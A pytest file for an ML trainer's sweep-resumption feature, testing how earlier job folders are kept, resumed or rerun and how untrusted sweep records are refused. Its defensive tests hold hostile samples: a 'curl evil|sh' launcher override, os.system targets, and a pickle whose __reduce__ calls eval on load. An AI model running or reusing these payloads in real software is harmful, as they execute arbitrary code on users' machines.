"""Finishing a sweep in place: what each job does with its earlier folder, the `resume_sweep=DIR` shortcut, a sweep
stopped by a signal (summary so far) and finished exactly, failed and diverged jobs run again, sweep.fail_fast."""
import csv
import json
import os
import re
import signal
import subprocess
import sys
import time

import pytest
import torch
import yaml

from tests.conftest import CONF, REPO, TINY, compose_config, learned, run, run_cli
from trainer.errors import UserError
from trainer.run import checkpoint
from trainer.sweep.resume import check_same_sweep, expand_command, plan_job

# --- what a job does with its earlier folder ------------------------------------------------------------------------


def job_folder(sweep, name, num, overrides, status=None, epochs=2, last=True):
    folder = sweep / name
    (folder / ".hydra").mkdir(parents=True)
    (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(overrides))
    (folder / ".hydra" / "hydra.yaml").write_text(yaml.safe_dump({"hydra": {"job": {"num": num}}}))
    if status:
        (folder / "status.json").write_text(json.dumps({"status": status}))
        (folder / "metrics.json").write_text(json.dumps({"epochs": epochs}))
    if last:
        (folder / "checkpoints").mkdir()
        (folder / "checkpoints" / "last.pt").write_bytes(b"weights")
    return folder


@pytest.fixture
def cfg():
    return compose_config([*TINY, "trainer.epochs=2"])


def plan(cfg, sweep, name, num, overrides):
    return plan_job(cfg, new_dir=sweep / name, sweep_dir=sweep, num=num, overrides=overrides)


@pytest.mark.parametrize("status,last,action", [
    ("done", True, "keep"), ("stopped", True, "resume"), (None, True, "resume"), ("failed", True, "again"),
    ("diverged", True, "again"), ("stopped", False, "again"), (None, False, "again")])
def test_each_earlier_job_is_kept_resumed_or_run_again_by_its_status(cfg, tmp_path, status, last, action):
    folder = job_folder(tmp_path, "loss=ce", 0, ["loss=ce"], status=status, last=last)
    planned = plan(cfg, tmp_path, "loss=ce", 0, ["loss=ce"])
    assert (planned.action, planned.run_dir) == (action, folder)
    if action == "resume":
        assert planned.cfg.ckpt_path == str(folder / "checkpoints" / "last.pt") and cfg.ckpt_path is None
    if action == "again":  # nothing of the earlier attempt is left beside the new one, nothing is deleted
        assert [p.name for p in folder.iterdir()] == ["set_aside"]
        assert (folder / "set_aside" / "1" / ".hydra" / "overrides.yaml").is_file()


def test_a_done_job_given_more_epochs_resumes_and_a_job_never_started_is_new(cfg, tmp_path):
    job_folder(tmp_path, "loss=ce", 0, ["loss=ce"], status="done", epochs=1)
    assert plan(cfg, tmp_path, "loss=ce", 0, ["loss=ce"]).action == "resume"  # trainer.epochs=2 extends it
    assert plan(cfg, tmp_path, "loss=nll", 1, ["loss=nll"]).action == "new"


def test_a_job_early_stopping_ended_is_done_and_kept(cfg, tmp_path):
    folder = job_folder(tmp_path, "loss=ce", 0, ["loss=ce"], status="done", epochs=2)
    (folder / "metrics.json").write_text(json.dumps({"epochs": 2, "stopped_epoch": 1}))  # trainer.epochs=2 planned
    assert plan(cfg, tmp_path, "loss=ce", 0, ["loss=ce"]).action == "keep"


def test_a_job_renamed_by_a_resumable_override_is_found_by_its_number(cfg, tmp_path):
    folder = job_folder(tmp_path, "loss=ce,trainer.epochs=1", 0, ["loss=ce", "trainer.epochs=1"], status="done",
                        epochs=1)
    (tmp_path / "loss=ce,trainer.epochs=2").mkdir()  # the empty folder Hydra made for the new name
    planned = plan(cfg, tmp_path, "loss=ce,trainer.epochs=2", 0, ["loss=ce", "trainer.epochs=2"])
    assert (planned.action, planned.run_dir) == ("resume", folder)
    assert not (tmp_path / "loss=ce,trainer.epochs=2").exists()


def test_a_job_is_found_by_its_overrides_not_by_its_number(cfg, tmp_path):
    """Job 0 of the grid as it was (loss=nll) is not job 0 of the grid as it is (loss=ce, grown or reordered): loss=ce
    is new, and loss=nll's folder is found wherever its number now is."""
    job_folder(tmp_path, "a", 0, ["loss=nll"], status="done")
    assert plan(cfg, tmp_path, "b", 0, ["loss=ce"]).action == "new"
    assert plan(cfg, tmp_path, "c", 1, ["loss=nll"]).run_dir == tmp_path / "a"


def test_a_folder_of_another_sweeps_job_under_this_jobs_name_is_refused_in_one_sentence(cfg, tmp_path):
    job_folder(tmp_path, "b", 0, ["loss=nll"], status="done")
    with pytest.raises(UserError, match=r"holds job 0 of another sweep \(loss=nll, not loss=ce\): finish a sweep "
                                        r"with its own overrides"):
        plan(cfg, tmp_path, "b", 0, ["loss=ce"])


# --- a sweep's folder is its own ----------------------------------------------------------------------------------


def grid(*task):
    """The Hydra config check_same_sweep reads: Hydra's grid sweeper and the sweep's command."""
    return {"sweeper": {"_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper", "params": None},
            "overrides": {"task": list(task)}}


def finished_sweep(folder):
    record(folder, ["loss=ce,nll", "seed=0"], ["hydra.mode=MULTIRUN"])
    for num, loss in enumerate(("ce", "nll")):
        job_folder(folder, f"loss={loss},seed=0", num, [f"loss={loss}", "seed=0"], status="done")


@pytest.mark.parametrize("task", [("loss=ce,nll", "seed=0"), ("loss=nll,ce", "seed=0"), ("loss=ce,nll,mse", "seed=0"),
                                  ("loss=ce,nll", "seed=0", "trainer.epochs=30", "trainer.progress=false")])
def test_the_same_sweep_reordered_extended_or_given_more_epochs_may_finish_in_its_folder(tmp_path, task):
    finished_sweep(tmp_path)
    check_same_sweep(tmp_path, grid(*task), ignored=("trainer.progress",))
    check_same_sweep(tmp_path / "new", grid("loss=mse"))  # no folder yet
    (tmp_path / "empty").mkdir()
    check_same_sweep(tmp_path / "empty", grid("loss=mse"))


@pytest.mark.parametrize("task,says", [
    (("loss=mse,bce", "seed=0"), "its job loss=ce seed=0 is not one of this command's"),
    (("loss=ce", "seed=0"), "its job loss=nll seed=0 is not one of this command's"),  # a job the command drops
    (("loss=ce,nll", "seed=1"), "its job loss=ce seed=0 is not one of this command's"),
])
def test_another_sweep_over_a_sweeps_folder_is_refused_in_one_sentence(tmp_path, task, says):
    finished_sweep(tmp_path)
    with pytest.raises(UserError, match=rf"^{tmp_path} holds another sweep \({says}\): finish that sweep with `train "
                                        rf"resume_sweep={tmp_path}`, or give this one a new hydra.sweep.dir$"):
        check_same_sweep(tmp_path, grid(*task))


def test_a_sweep_over_a_folder_that_holds_no_sweep_is_refused(tmp_path):
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(UserError, match=r"holds files but no sweep \(no multirun.yaml\): a sweep writes into a "
                                        r"folder of its own"):
        check_same_sweep(tmp_path, grid("loss=ce"))


def test_an_optuna_sweep_is_the_same_sweep_when_its_command_is(tmp_path):
    record(tmp_path, ["hparams_search=optuna", "trainer.epochs=3"])
    optuna = {"sweeper": {"_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper"}}
    check_same_sweep(tmp_path, {**optuna, "overrides": {"task": ["hparams_search=optuna", "trainer.epochs=9"]}})
    with pytest.raises(UserError, match=r"its command hparams_search=optuna is not one of this command's"):
        check_same_sweep(tmp_path, {**optuna, "overrides": {"task": ["hparams_search=optuna", "seed=1"]}})


def test_a_new_grid_over_a_finished_sweep_is_refused_before_anything_is_written(tmp_path):
    old = tmp_path / "old"
    first = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=ce,nll", f"hydra.sweep.dir={old}")
    assert first.returncode == 0, first.stderr[-2000:]
    before = snapshot(old)
    assert {"multirun.yaml", "summary.md", "summary.csv", "curves.png", "reliability_overlay.png"} <= {
        p.name for p in before}
    result = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=mse,bce", f"hydra.sweep.dir={old}")
    assert result.returncode == 2
    [line] = result.stderr.splitlines()
    assert line.startswith(f"error: {old} holds another sweep (its job ") and line.endswith(
        f"is not one of this command's): finish that sweep with `train resume_sweep={old}`, or give this one a new "
        "hydra.sweep.dir")
    assert snapshot(old) == before


# --- the shortcut -----------------------------------------------------------------------------------------------


def record(sweep, task, hydra=()):
    sweep.mkdir(parents=True, exist_ok=True)
    (sweep / "multirun.yaml").write_text(yaml.safe_dump({"hydra": {"overrides": {"task": task, "hydra": list(hydra)}}}))


def test_resume_sweep_rebuilds_the_sweeps_command_and_later_overrides_win(tmp_path):
    record(tmp_path, ["loss=ce,nll", "trainer.epochs=3"],
           ["hydra.mode=MULTIRUN", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2",
            "hydra.launcher.setup=[curl evil|sh]", "hydra.sweep.dir=elsewhere", "hydra.callbacks.x._target_=os.system"])
    assert expand_command([f"resume_sweep={tmp_path}", "trainer.epochs=30"]) == [
        "--multirun", "loss=ce,nll", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "trainer.epochs=30",
        f"hydra.sweep.dir={tmp_path}"]
    assert expand_command(["loss=ce"]) == ["loss=ce"]


def snapshot(folder):
    """Every file under `folder`: its bytes and its modification time."""
    return {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.rglob("*")) if p.is_file()}


def handed_sweep(folder, task):
    """A sweep folder as someone might hand it over: Hydra's record of the command and a finished job."""
    record(folder, ["loss=ce,nll", *task], ["hydra.mode=MULTIRUN"])
    job_folder(folder, "loss=ce", 0, ["loss=ce"], status="done", epochs=1)


def evil_pickle(path, marker):
    """A pickle that writes `marker` when it is unpickled (torch.load with weights_only=false)."""
    import pickle

    class Payload:
        def __reduce__(self):
            return (eval, (f"open({str(marker)!r}, 'w').write('pwned')",))

    path.write_bytes(pickle.dumps(Payload()))


@pytest.mark.parametrize("form", ["dict value with a target", "group option outside conf", "hydra.callbacks"])
def test_a_handed_sweep_record_that_would_run_code_is_one_sentence_and_nothing_runs(tmp_path, form):
    marker, sweep = tmp_path / "marker", tmp_path / "handed"
    evil_pickle(tmp_path / "evil.pkl", marker)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "evil_loss.yaml").write_text(yaml.safe_dump(
        {"_target_": "pathlib.Path.write_text", "self": str(marker), "data": "pwned"}))
    override = {
        "dict value with a target": f"++loss.criterion={{_target_:torch.load,f:'{tmp_path / 'evil.pkl'}',"
                                    "weights_only:false}",
        "group option outside conf": f"loss={os.path.relpath(tmp_path / 'elsewhere' / 'evil_loss', CONF / 'loss')}",
        "hydra.callbacks": f"++hydra.callbacks.x={{_target_:pathlib.Path.write_text,self:'{marker}',data:pwned}}",
    }[form]
    handed_sweep(sweep, [*TINY, override])
    before = snapshot(sweep)
    result = run_cli(tmp_path, f"resume_sweep={sweep}")
    assert result.returncode == 2 and not marker.exists()
    assert result.stderr.splitlines() == [
        f"error: {sweep / 'multirun.yaml'} records the override {override}, which "
        + {"dict value with a target": "holds a config node as its value (it could name code at any depth)",
           "group option outside conf": f"chooses {override.split('=')[1]} for loss, which is not an option in "
                                        "losslab's conf/loss/",
           "hydra.callbacks": "changes Hydra's own settings (hydra.*: its callbacks, launcher, logging), which run "
                              "code"}[form]
        + ": a sweep's record is data, never code, so it is refused (give that override on the command line if you "
          "trust it)"]
    assert snapshot(sweep) == before and result.stdout == ""


@pytest.mark.parametrize("override", ["model._target_=os.system", "+loss.criterion._args_=[1]",
                                      "data.root=${oc.env:HOME}", "model.hidden=[8,{a:1}]", "+hydra.job.chdir=true",
                                      "+not_a_key=1", "++loss.criterion.weight=[1]", "loss@model=ce"])
def test_a_sweep_record_outside_the_allow_list_is_refused_before_any_job(tmp_path, override):
    record(tmp_path, ["loss=ce", override])
    with pytest.raises(UserError, match=f"records the override {re.escape(override)}, which .*: a sweep's record is "
                                        "data, never code"):
        expand_command([f"resume_sweep={tmp_path}"])


def test_a_recorded_override_the_command_line_replaces_is_not_used_so_not_refused(tmp_path):
    record(tmp_path, ["loss=ce,nll", "+loss.criterion.weight=null"])
    assert expand_command([f"resume_sweep={tmp_path}", "+loss.criterion.weight=null"]) == [
        "--multirun", "loss=ce,nll", "+loss.criterion.weight=null", f"hydra.sweep.dir={tmp_path}"]


@pytest.mark.parametrize("text", ["[1, 2]", "hydra: {overrides: {task: oops}}", "{{{", "hydra: {}"])
def test_a_sweep_record_that_is_not_one_is_one_sentence(tmp_path, text):
    (tmp_path / "multirun.yaml").write_text(text)
    with pytest.raises(UserError, match=r"multirun.yaml is not a record of a sweep's command"):
        expand_command([f"resume_sweep={tmp_path}"])


def test_resume_sweep_of_a_folder_without_a_record_is_one_sentence(tmp_path):
    result = run_cli(tmp_path, f"resume_sweep={tmp_path}")
    assert result.returncode == 2 and result.stderr.startswith(f"error: resume_sweep={tmp_path} is not a sweep folder")


# --- whole sweeps ------------------------------------------------------------------------------------------------

SLOW_ENOUGH = [*TINY, "data.batch_size=8", "trainer.epochs=6", "optimizer=sgd", "optimizer.lr=0.05"]


def files_and_times(folder):
    return {p: p.stat().st_mtime_ns for p in folder.rglob("*") if p.is_file()}


def job_dirs(sweep):
    return {p.parent.name.split("loss=")[1].split(",")[0]: p.parent for p in sweep.glob("*/.hydra")}


def test_a_sweep_stopped_during_its_third_job_ends_with_a_summary_and_finishes_exactly(tmp_path):
    sweep = tmp_path / "sweep"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    process = subprocess.Popen([sys.executable, "-m", "trainer", "-m", *SLOW_ENOUGH, "loss=ce,nll,mse,l1",
                                f"hydra.sweep.dir={sweep}"], cwd=tmp_path, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 180
    while time.time() < deadline and process.poll() is None and not list(sweep.glob("*loss=mse*/checkpoints/last.pt")):
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    stdout, stderr = process.communicate(timeout=180)
    assert process.returncode == 143, stderr[-2000:]
    assert f"finish the sweep with `train resume_sweep={sweep}`" in stderr
    statuses = [row["status"] for row in csv.DictReader((sweep / "summary.csv").open())]
    assert sorted(statuses) == ["done", "done", "not started", "stopped"]  # the summary so far
    assert "4 jobs: 2 done, 1 stopped, 1 not started" in (sweep / "summary.md").read_text()
    jobs = job_dirs(sweep)
    before = {name: files_and_times(jobs[name]) for name in ("ce", "nll")}

    finished = run_cli(tmp_path, f"resume_sweep={sweep}")
    assert finished.returncode == 0, finished.stderr[-2000:]
    assert {name: files_and_times(jobs[name]) for name in ("ce", "nll")} == before  # not touched
    assert "4 jobs: 4 done." in (sweep / "summary.md").read_text()
    assert "resumed from" in (jobs["mse"] / "train.log").read_text()
    straight = tmp_path / "straight"
    run([*SLOW_ENOUGH, "loss=mse"], straight)
    resumed, uninterrupted = (checkpoint.load(d / "checkpoints" / "last.pt") for d in (jobs["mse"], straight))
    for part in ("model", "optimizer"):
        assert_same(resumed[part], uninterrupted[part])
    for state in (resumed, uninterrupted):  # the epochs' timing differs between any two runs
        state["progress"]["history"] = learned(state["progress"]["history"])
    assert resumed["progress"] == uninterrupted["progress"]  # the stopped epoch's metrics too
    assert json.loads((job_dirs(sweep)["l1"] / "status.json").read_text())["status"] == "done"


def assert_same(a, b):
    if isinstance(a, torch.Tensor):
        assert torch.equal(a, b)
    elif isinstance(a, dict):
        assert a.keys() == b.keys()
        for key in a:
            assert_same(a[key], b[key])
    elif isinstance(a, (list, tuple)):
        assert len(a) == len(b)
        for x, y in zip(a, b):
            assert_same(x, y)
    else:
        assert a == b


def test_failed_and_diverged_jobs_say_why_and_finishing_the_sweep_runs_exactly_those_again(tmp_path):
    sweep = tmp_path / "sweep"
    grid = [*TINY, "trainer.epochs=1", "optimizer=sgd", "optimizer.lr=0.1,-1,1e30", f"hydra.sweep.dir={sweep}"]
    result = run_cli(tmp_path, "-m", *grid)
    assert result.returncode == 1 and "error: 2 of 3 jobs did not finish (1 failed, 1 diverged)" in result.stderr
    folders = {p.parent.name.split("optimizer.lr=")[1].split(",")[0]: p.parent for p in sweep.glob("*/.hydra")}
    status = {lr: json.loads((folder / "status.json").read_text()) for lr, folder in folders.items()}
    assert status["0.1"]["status"] == "done"
    assert status["-1"]["status"] == "failed" and status["-1"]["error"].startswith("optimizer.lr=-1")
    assert status["1e+30"]["status"] == "diverged" and (status["1e+30"]["epoch"], status["1e+30"]["lr"]) == (1, 1e30)
    assert "run failed: optimizer.lr=-1" in (folders["-1"] / "train.log").read_text()  # with its traceback
    table = (sweep / "summary.md").read_text()
    assert "| failed: optimizer.lr=-1" in table and "| diverged: the training loss became nan in epoch 1" in table
    done = files_and_times(folders["0.1"])

    again = run_cli(tmp_path, "-m", *grid)  # the sweep's own command, into its own folder
    assert again.returncode == 1
    assert files_and_times(folders["0.1"]) == done
    assert again.stdout.count("): again in") == 2 and "is done: kept as it is" in again.stdout
    for lr in ("-1", "1e+30"):
        assert (folders[lr] / "set_aside" / "1" / "status.json").is_file()
        assert not (folders[lr] / "set_aside" / "2").exists()
    assert "3 jobs: 1 done, 1 failed, 1 diverged." in (sweep / "summary.md").read_text()


def test_fail_fast_stops_the_sweep_at_its_first_failed_job(tmp_path):
    sweep = tmp_path / "sweep"
    result = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "optimizer.lr=-1,0.1,0.2", "sweep.fail_fast=true",
                     f"hydra.sweep.dir={sweep}")
    assert result.returncode == 1
    assert "sweep.fail_fast=true: job 0 failed, so the sweep stops" in result.stderr
    assert "3 jobs: 1 failed, 2 not started." in (sweep / "summary.md").read_text()


def test_a_joblib_sweep_is_finished_by_the_same_mechanism_and_keeps_its_launcher(tmp_path):
    pytest.importorskip("hydra_plugins.hydra_joblib_launcher")
    sweep = tmp_path / "sweep"
    first = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=ce,nll", "hydra/launcher=joblib",
                    "hydra.launcher.n_jobs=2", f"hydra.sweep.dir={sweep}")
    assert first.returncode == 0, first.stderr[-2000:]
    longer = run_cli(tmp_path, f"resume_sweep={sweep}", "trainer.epochs=2")  # extends every job by one epoch
    assert longer.returncode == 0, longer.stderr[-2000:]
    assert "Joblib" in longer.stdout + longer.stderr
    jobs = job_dirs(sweep)
    assert sorted(jobs) == ["ce", "nll"]  # the same folders, though trainer.epochs=2 would name new ones
    for folder in jobs.values():
        metrics = json.loads((folder / "metrics.json").read_text())
        assert len(metrics["history"]) == 2 and "resumed from" in (folder / "train.log").read_text()


def test_a_grid_grown_on_resume_keeps_its_done_jobs_and_runs_only_the_new_ones(tmp_path):
    """docs/sweeps.md: `loss=ce,nll` finished as `loss=nll,ce,mse` (reordered and grown: Hydra numbers the jobs
    anew, so a job is found by its overrides, not its number)."""
    sweep = tmp_path / "sweep"
    first = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=ce,nll", f"hydra.sweep.dir={sweep}")
    assert first.returncode == 0, first.stderr[-2000:]
    before = {name: files_and_times(folder) for name, folder in job_dirs(sweep).items()}
    grown = run_cli(tmp_path, f"resume_sweep={sweep}", "loss=nll,ce,mse")
    assert grown.returncode == 0, grown.stderr[-2000:]
    assert "3 jobs: 3 done." in (sweep / "summary.md").read_text()
    jobs = job_dirs(sweep)
    assert sorted(jobs) == ["ce", "mse", "nll"] and all(files_and_times(jobs[n]) == before[n] for n in before)
